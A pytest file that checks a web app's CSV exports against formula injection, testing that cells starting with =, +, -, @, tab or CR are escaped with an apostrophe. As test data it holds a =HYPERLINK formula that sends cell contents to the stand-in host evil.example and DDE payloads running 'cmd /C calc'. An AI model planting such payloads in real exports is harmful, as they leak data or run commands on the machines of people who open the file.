"""CSV formula injection: a cell a spreadsheet would run (=, +, -, @, a leading tab or CR) leaves
every export as text, prefixed with an apostrophe (core.csvsafe.safe_cell)."""

import csv
import io

import pytest

from contracts import services as contracts
from core.csvsafe import safe_cell
from core.db import db as _db
from core.mail import OutboxEmail
from core.permissions import Role
from tests.factories import ClientFactory, PartnerFactory, PlanFactory, UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Clique aqui")'
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("value", "expected"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+55 11 99999-0000", "'+55 11 99999-0000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-12.50", "-12.50"),  # a number stays a number
    ("+5", "+5"),
    ("Padaria = boa", "Padaria = boa"),
    ("", ""),
    (None, None),
    (1990, 1990),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _export(client, view: str) -> list[list[str]]:
    response = client.get(f"/admin/{view}/export/csv/")
    assert response.status_code == 200, view
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_a_client_named_like_a_formula_is_exported_as_text(app, db, client, login_as, partner, plan, manager):
    admin = UserFactory(role=Role.ADMIN, name="@SUM(1+1)")
    evil = ClientFactory(partner=partner, plan=plan, legal_name=HYPERLINK, trade_name=HYPERLINK)
    contracts.change_plan(evil, PlanFactory(software=plan.software, name="Prata", price_cents=7990), when="now",
                          actor=manager)
    PartnerFactory(legal_name="+1+cmd|' /C calc'!A0", trade_name="-1+1")
    _db.session.add(OutboxEmail(to="x@example.com", subject="\t=1+1", body_text="Olá"))
    _db.session.flush()
    login_as(admin)

    rows = _export(client, "admin_contract_events")
    cells = {cell for row in rows for cell in row}
    assert "'" + HYPERLINK in cells, rows
    assert HYPERLINK not in cells

    unsafe = []
    views = [v for v in app.extensions["revenda_admin"]._views if getattr(v, "can_export", False)]
    assert len(views) >= 10
    for view in views:
        for row in _export(client, view.endpoint)[1:]:
            unsafe += [(view.endpoint, cell) for cell in row if cell.startswith(FORMULAS) and cell != safe_cell(cell)]
    assert not unsafe, unsafe
    users = {cell for row in _export(client, "users") for cell in row}
    assert "'@SUM(1+1)" in users
    partners = {cell for row in _export(client, "partners") for cell in row}
    assert "'+1+cmd|' /C calc'!A0" in partners and "'-1+1" in partners
    outbox = {cell for row in _export(client, "outbox") for cell in row}
    assert "'\t=1+1" in outbox
